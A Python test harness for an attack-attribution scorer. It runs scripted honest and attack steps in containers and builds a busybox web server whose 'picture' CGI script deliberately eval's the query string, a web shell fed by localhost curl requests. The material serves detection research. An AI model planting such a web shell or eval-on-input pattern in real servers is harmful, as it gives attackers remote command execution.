#!/usr/bin/python3
"""Performs one story, in the namespaces that record.sh made; perform.py beside it does the rest.

A story's file tells first what must be found (see the scorer, `rules/tests/attribution/truth.rs`), then what is done, a step after
the other. A step begins with a line of its own, `KIND PLACE`, and its commands follow, indented. Kinds: `act` and `act2` belong to
an attack, the first or the second; `use` is honest. One with `&` behind goes on beside those that follow. Places: `host`; at a
terminal there `admin`; in the containers `pod` and `other`, as a child of their first program; brought into `pod` at a
terminal `session`, and without one, as a check of its health is, `probe`; asked of a web shell in `pod`, whose server also does
honest work, `web`. `start` is where the collector starts.

The commands of a step are the file /srv/KIND/NAME, NAME being its number. By those paths the truth is told from the recording: who
was started with one of them among his arguments belongs to the attack, with all that descends from him.

    act.py STORY JOIN...    JOIN: descriptors of files that take a process into the containers' control groups, half for each
"""

import os
import re
import sys
import time
import signal

import perform

STEP = re.compile(r"^(act2?|use) (host|admin|pod|other|session|probe|web)( &)?$")
# A page that counts, and one that was taken over.
SERVER = r"""mkdir -p /srv/www/cgi-bin /srv/bin && cp /usr/bin/busybox /srv/bin/httpd && cd /srv/www
printf '#!/usr/bin/perl\nprint "Content-type: text/plain\\n\\n"; open(F, ">>", "/srv/www/count"); print F "x"; system("date");' >cgi-bin/count
printf '#!/bin/sh\necho; eval "$(busybox httpd -d "$QUERY_STRING")" 2>&1\n' >cgi-bin/picture
chmod 755 cgi-bin/*
exec /srv/bin/httpd -f -p 8081 -h /srv/www
"""
# Honest requests before and behind the attacker's. The command is spelled as a browser would, which also keeps the mark out of
# the caller's command line: callers are no part of what belongs to the attack.
ASK = """curl -s http://127.0.0.1:8081/cgi-bin/count
curl -s 'http://127.0.0.1:8081/cgi-bin/picture?.%20{}'
curl -s http://127.0.0.1:8081/cgi-bin/count
"""


def steps(story):
    """Of each step its kind, place, whether it goes on beside others, and its commands."""
    found = []
    with open(story, encoding="utf-8") as lines:
        for line in lines:
            if line.rstrip() == "start":
                found.append(["start", "", False, ""])
            elif step := STEP.match(line.rstrip()):
                found.append([step[1], step[2], bool(step[3]), ""])
            elif line.startswith("    ") and found:
                found[-1][3] += line[4:]
    return found


def wait_for_the_collector():
    with open("/srv/ready", "w", encoding="utf-8"):
        pass
    while not os.path.exists("/srv/go"):
        time.sleep(0.05)


class Container:
    def __init__(self, groups, outside):
        self.groups = groups
        self.first, self.told, self.answers = perform.container(groups, outside)
        time.sleep(0.5)
        self.namespace = os.open(f"/proc/{self.first}/ns/mnt", os.O_RDONLY)

    def run(self, script):
        os.write(self.told, script.encode() + b"\n")
        os.read(self.answers, 1)

    def enter(self):
        perform.join(self.groups)
        if perform.libc.setns(self.namespace, perform.CLONE_NEWNS) != 0:
            raise OSError("setns")


def write(script, commands):
    with open(script, "w", encoding="utf-8") as text:
        text.write(commands)
    return script


def serve(pod, outside):
    """Starts the server with the web shell, and waits until it answers."""
    pod.run(write("/srv/use/server", SERVER) + " &")
    wait = "until curl -sf http://127.0.0.1:8081/cgi-bin/count; do sleep 0.1; done\n"
    perform.run(write("/srv/use/wait", wait), outside, False)


def beside(work):
    """A child does it."""
    pid = os.fork()
    if pid == 0:
        work()
        os._exit(0)
    return pid


def main():
    groups = [int(fd) for fd in sys.argv[2:]]
    for folder in ("/srv/act", "/srv/act2", "/srv/use", perform.SCRATCH):
        os.makedirs(folder)
    perform.LONGEST = 150
    server = perform.servers()
    outside = beside(lambda: os.execv("/usr/bin/sleep", ["sleep", "3600"]))
    half = len(groups) // 2
    pods = {"pod": Container(groups[:half], outside), "other": Container(groups[half:], outside)}
    ends = [server, outside] + [pod.first for pod in pods.values()]
    story = steps(sys.argv[1])
    if any(place == "web" for _, place, _, _ in story):
        serve(pods["pod"], outside)
    for number, (kind, place, goes_on, commands) in enumerate(story):
        if kind == "start":
            wait_for_the_collector()
            continue
        script = write(f"/srv/{kind}/{number:02}", commands)
        if place in pods:
            # The first program of a container begins what goes on, and waits for what does not.
            pods[place].run(script + " &" * goes_on)
            continue
        if place == "web":
            script = write(f"/srv/use/{number:02}", ASK.format(script.replace("/", "%2F")))
        at_a_terminal = place in ("admin", "session")
        enter = pods["pod"].enter if place in ("session", "probe") else lambda: None
        work = lambda: perform.run(script, outside, at_a_terminal, enter)
        ends += [beside(work)] if goes_on else [work() or 0][:0]
    time.sleep(0.5)
    for pid in ends:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


main()
